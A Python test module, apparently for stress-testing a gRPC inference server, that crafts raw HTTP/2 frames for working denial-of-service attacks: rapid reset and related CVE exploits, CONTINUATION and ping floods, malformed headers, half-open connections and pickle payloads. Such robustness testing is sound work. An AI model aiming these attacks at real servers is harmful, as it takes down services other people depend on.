"""Attacks beneath gRPC: HTTP/2 frames on a TCP connection, written by hand (RFC 9113), and header blocks (RFC 7541)
without compression.

Each connection is one attack, with a few bytes drawn; what the server answers is read where it must not pile up here,
and thrown away.
"""

import contextlib
import socket
import struct
from collections import deque
from collections.abc import Callable, Iterator
from random import Random

from pagewire.v1 import inference_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, HAS_PRIORITY = 1, 1, 4, 8, 32
INITIAL_WINDOW_SIZE = 4
STREAM_GENERATE = b"/pagewire.v1.InferenceService/StreamGenerate"
PATHS = (
    STREAM_GENERATE,
    b"/pagewire.v1.InferenceService/Generate",
    b"/pagewire.v1.ModelService/ListModels",
    b"/pagewire.v1.AdminService/WatchLoad",
    b"/grpc.health.v1.Health/Watch",
    b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    b"/vllm.grpc.engine.VllmEngine/Generate",
    b"/nowhere",
    b"",
    b"//..//",
    b"\xff\xfe",
    b"/" + b"x" * 5000,
)
MAX_HALF_OPEN = 48
LIMIT_S = 2.0
CONNECT_LIMIT_S = 30.0


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"", length: int | None = None) -> bytes:
    """One frame; `length` where it shall lie about its own."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value: int, prefix_bits: int, first: int) -> bytes:
    """Of a header block."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    value -= most
    encoded = [first | most]
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes([*encoded, value])


def header(name: bytes, value: bytes, is_kept: bool = False) -> bytes:
    """A literal one; kept, in the peer's table too."""
    return (b"\x40" if is_kept else b"\0") + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def request_headers(path: bytes = STREAM_GENERATE, *more: tuple[bytes, bytes]) -> bytes:
    """Of a gRPC call."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc"), *more)  # fmt: skip
    return b"".join(header(name, value) for name, value in fields)


def grpc_message(content: bytes, length: int | None = None, compressed: int = 0) -> bytes:
    """As gRPC frames it."""
    return bytes([compressed]) + struct.pack(">I", len(content) if length is None else length) + content


class Http2Attacks:
    """What can be done to listeners. Threads may share one."""

    def __init__(self, addresses: list[str], request: inference_pb2.StreamGenerateRequest, pickle: bytes) -> None:
        """`request` asks for a long stream."""
        self._addresses = [(host, int(port)) for host, _, port in (each.rpartition(":") for each in addresses)]
        self._request = request.SerializeToString()
        self._pickle = pickle
        self._half_open: deque[socket.socket] = deque()

    @property
    def all(self) -> list[Callable[[Random], str]]:
        """Each of them."""
        return [self.no_http, self.random_frames, self.lying_frames, self.settings_flood, self.ping_flood,
                self.rapid_reset, self.reset_by_fault, self.continuation_flood, self.large_headers, self.header_blocks,
                self.header_fields, self.empty_data, self.window_updates, self.never_reads, self.half_open,
                self.messages, self.half_a_call, self.many_streams]  # fmt: skip

    def close(self) -> None:
        """Leave whatever is open."""
        while self._half_open:
            self._half_open.popleft().close()

    # Connections

    @contextlib.contextmanager
    def _connected(self, draw: Random, *first: bytes) -> Iterator[socket.socket]:
        """A connection whose peer may leave at any time."""
        with socket.create_connection(draw.choice(self._addresses), CONNECT_LIMIT_S) as connection:
            connection.settimeout(LIMIT_S)
            with contextlib.suppress(OSError):
                connection.sendall(b"".join(first))
            with contextlib.suppress(OSError):
                yield connection
                _drain(connection)

    def _open(self, draw: Random) -> contextlib.AbstractContextManager[socket.socket]:
        return self._connected(draw, PREFACE, frame(SETTINGS), frame(SETTINGS, ACK))

    def _keep(self, draw: Random, *first: bytes) -> None:
        """A connection that is left as it is until many others have come."""
        with contextlib.suppress(OSError):
            connection = socket.create_connection(draw.choice(self._addresses), LIMIT_S)
            self._half_open.append(connection)
            connection.sendall(b"".join(first))
        while len(self._half_open) > MAX_HALF_OPEN:
            self._half_open.popleft().close()

    # Attacks

    def no_http(self, draw: Random) -> str:
        """Other protocols, and the preface cut off or changed."""
        with self._connected(draw) as connection:
            connection.sendall(
                draw.choice(
                    (
                        draw.randbytes(draw.randrange(1, 4000)),
                        self._pickle,
                        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                        b"POST /pagewire.v1.InferenceService/Generate HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n",
                        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + draw.randbytes(300),
                        PREFACE[: draw.randrange(len(PREFACE))],
                        PREFACE + draw.randbytes(draw.randrange(1, 4000)),
                        PREFACE * 50,
                    )
                )
            )
        return "no HTTP/2"

    def random_frames(self, draw: Random) -> str:
        """Whole frames of any kind, on any stream, with anything in them."""
        with self._open(draw) as connection:
            for _ in range(50):
                payload = draw.randbytes(draw.choice((0, 1, 4, 5, 8, 100)))
                stream = draw.choice((0, 1, 2, 3, 2**31 - 1, 2**32 - 1))
                connection.sendall(
                    frame(draw.randrange(256) % draw.choice((10, 256)), draw.randrange(256), stream, payload)
                )
        return "random frames"

    def lying_frames(self, draw: Random) -> str:
        """Frames that are longer than they may be, or than what comes."""
        with self._open(draw) as connection:
            kind, stream = draw.randrange(10), draw.choice((0, 1))
            length = draw.choice((2**24 - 1, 16_385, 2**20))
            connection.sendall(frame(kind, draw.randrange(256), stream, draw.randbytes(20_000), length))
        return "lying frames"

    def settings_flood(self, draw: Random) -> str:
        """Each has to be acknowledged."""
        setting = struct.pack(
            ">HI", draw.choice((1, 3, 4, 5, 6, 99)), draw.choice((0, 1, 2**31 - 1, 2**32 - 1, 65_536))
        )
        many = frame(SETTINGS, 0, 0, setting * draw.choice((1, 100)))
        with self._open(draw) as connection:
            connection.sendall(many * 1000)
        return "settings floods"

    def ping_flood(self, draw: Random) -> str:
        """So has each of these."""
        with self._open(draw) as connection:
            connection.sendall(frame(PING, 0, 0, draw.randbytes(8)) * 5000)
        return "ping floods"

    def rapid_reset(self, draw: Random, num_calls: int = 100) -> str:
        """Calls that are given up as they are made (CVE-2023-44487)."""
        with self._open(draw) as connection:
            for first in range(1, 2 * num_calls, 200):
                for stream in range(first, first + 200, 2):
                    block = request_headers(draw.choice(PATHS[:7]))
                    body = frame(DATA, END_STREAM, stream, grpc_message(self._request)) if draw.random() < 0.5 else b""
                    reset = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    connection.sendall(frame(HEADERS, END_HEADERS, stream, block) + body + reset)
        return "rapid resets"

    def reset_by_fault(self, draw: Random) -> str:
        """Calls that the server has to give up (CVE-2025-8671)."""
        with self._open(draw) as connection:
            for stream in range(1, 200, 2):
                fault = draw.choice(
                    (
                        frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
                        frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)) * 2,
                        frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0)),
                        frame(DATA, END_STREAM, stream) + frame(DATA, 0, stream, b"x"),
                        frame(HEADERS, END_HEADERS, stream, b"\0\1X\1y"),
                    )
                )
                connection.sendall(frame(HEADERS, END_HEADERS, stream, request_headers()) + fault)
        return "resets by fault"

    def continuation_flood(self, draw: Random) -> str:
        """Headers without end (CVE-2024-27316)."""
        with self._open(draw) as connection:
            connection.sendall(frame(HEADERS, 0, 1, request_headers()))
            piece = draw.choice((b"", header(b"x-a", b"y" * 100)))
            connection.sendall(frame(CONTINUATION, 0, 1, piece) * 20_000)
        return "continuation floods"

    def large_headers(self, draw: Random) -> str:
        """More of them, or larger ones, than there may be."""
        large = draw.choice((15_000, 17_000, 100_000, 1_000_000))
        block = request_headers(STREAM_GENERATE, (b"x-large", b"v" * large))
        if draw.random() < 0.5:
            block = request_headers() + header(b"x-many", b"v") * (large // 100)
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        with self._open(draw) as connection:
            connection.sendall(frame(HEADERS, END_STREAM, 1, pieces[0]))
            for piece in pieces[1:]:
                connection.sendall(frame(CONTINUATION, 0, 1, piece))
            connection.sendall(frame(CONTINUATION, END_HEADERS, 1))
        return "large headers"

    def header_blocks(self, draw: Random) -> str:
        """Blocks that cannot be decoded, or make much of little."""
        block = draw.choice(
            (
                draw.randbytes(draw.randrange(1, 300)),
                b"\x80",
                integer(2**40, 7, 0x80),
                b"\xff" * 40,
                b"\x3f\xff\xff\xff\xff\x7f",
                integer(2**30, 5, 0x20),
                b"\0" + integer(2**31, 7, 0) + b"x",
                b"\0\x85\xff\xff\xff\xff\xff\0",
                header(b"x-kept", b"v" * 3000, is_kept=True) + b"\xbe" * 15_000,
            )
        )
        with self._open(draw) as connection:
            for stream in (1, 3, 5):
                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, request_headers() + block))
        return "header blocks"

    def header_fields(self, draw: Random) -> str:
        """Fields that no client sends."""
        more = draw.choice(
            (
                (b"grpc-timeout", draw.choice((b"99999999999H", b"-1S", b"xS", b"", b"0n", b"99999999H"))),
                (b"grpc-encoding", draw.choice((b"gzip", b"deflate", b"magic", b"\xff"))),
                (b"grpc-accept-encoding", b"magic," * 1000),
                (b"content-length", b"-5"),
                (b"connection", b"keep-alive"),
                (b":path", b"/twice"),
                (b"X-Upper", b"v"),
                (b"", b"v"),
                (b"x", b"a\r\nb: c\0"),
                (b"authorization", b"Bearer " + draw.randbytes(50)),
                (b"x-bin", b"!!!"),
                (b"grpc-status-details-bin", b"=" * 999),
                (b"user-agent", draw.randbytes(200)),
            )
        )
        path = draw.choice(PATHS)
        block = draw.choice(
            (request_headers(path, more), header(*more) + request_headers(path), header(b":path", path))
        )
        with self._open(draw) as connection:
            connection.sendall(frame(HEADERS, END_HEADERS, 1, block))
            connection.sendall(frame(DATA, END_STREAM, 1, grpc_message(self._request)))
            connection.settimeout(0.01)
        return "header fields"

    def empty_data(self, draw: Random) -> str:
        """Frames with nothing, or with padding alone, in them."""
        nothing = draw.choice((frame(DATA, 0, 1), frame(DATA, PADDED, 1, b"\xff" + bytes(255))))
        with self._open(draw) as connection:
            connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
            connection.sendall(nothing * 5000)
        return "empty data"

    def window_updates(self, draw: Random) -> str:
        """Windows that overflow, or grow by one and one again."""
        step = draw.choice((1, 2**31 - 1, 0))
        with self._open(draw) as connection:
            connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
            connection.sendall(frame(WINDOW_UPDATE, 0, draw.choice((0, 1)), struct.pack(">I", step)) * 5000)
        return "window updates"

    def never_reads(self, draw: Random) -> str:
        """Calls for long streams on a connection that takes nothing."""
        calls = [
            frame(HEADERS, END_HEADERS, stream, request_headers())
            + frame(DATA, END_STREAM, stream, grpc_message(self._request))
            for stream in range(1, 9, 2)
        ]
        shut = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
        self._keep(draw, PREFACE, frame(SETTINGS, 0, 0, shut), *calls)
        return "connections that never read"

    def half_open(self, draw: Random) -> str:
        """The beginning of a connection, and then silence."""
        whole = PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, request_headers())
        self._keep(draw, whole[: draw.randrange(len(whole))])
        return "half-open connections"

    def half_a_call(self, draw: Random) -> str:
        """A call whose message does not come, or comes by half."""
        body = grpc_message(self._request)[: draw.randrange(len(self._request))]
        call = frame(HEADERS, END_HEADERS, 1, request_headers(draw.choice(PATHS[:7]))) + frame(DATA, 0, 1, body)
        self._keep(draw, PREFACE, frame(SETTINGS), call)
        return "half calls"

    def messages(self, draw: Random) -> str:
        """Messages whose lengths lie, which say that they are compressed, or which are many."""
        body = draw.choice(
            (
                grpc_message(self._request, length=2**32 - 1),
                grpc_message(self._request, length=len(self._request) - 1),
                grpc_message(self._request, length=100 << 20),
                grpc_message(self._request, compressed=1),
                grpc_message(self._request, compressed=255),
                grpc_message(self._request) * 20,
                grpc_message(self._pickle),
                self._pickle,
                b"",
            )
        )
        with self._open(draw) as connection:
            for stream in range(1, 21, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, request_headers(draw.choice(PATHS[:7]))))
                connection.sendall(frame(DATA, END_STREAM, stream, body))
        return "gRPC messages"

    def many_streams(self, draw: Random) -> str:
        """Many streams, each with a call that waits for its message."""
        block = request_headers(draw.choice(PATHS[:7]))
        with self._open(draw) as connection:
            for first in range(1, 1800, 600):
                connection.sendall(
                    b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(first, first + 600, 2))
                )
                _drain(connection)
        return "many streams"


def _drain(connection: socket.socket) -> None:
    """Throw away what has come."""
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 16):
            pass
    connection.settimeout(LIMIT_S)
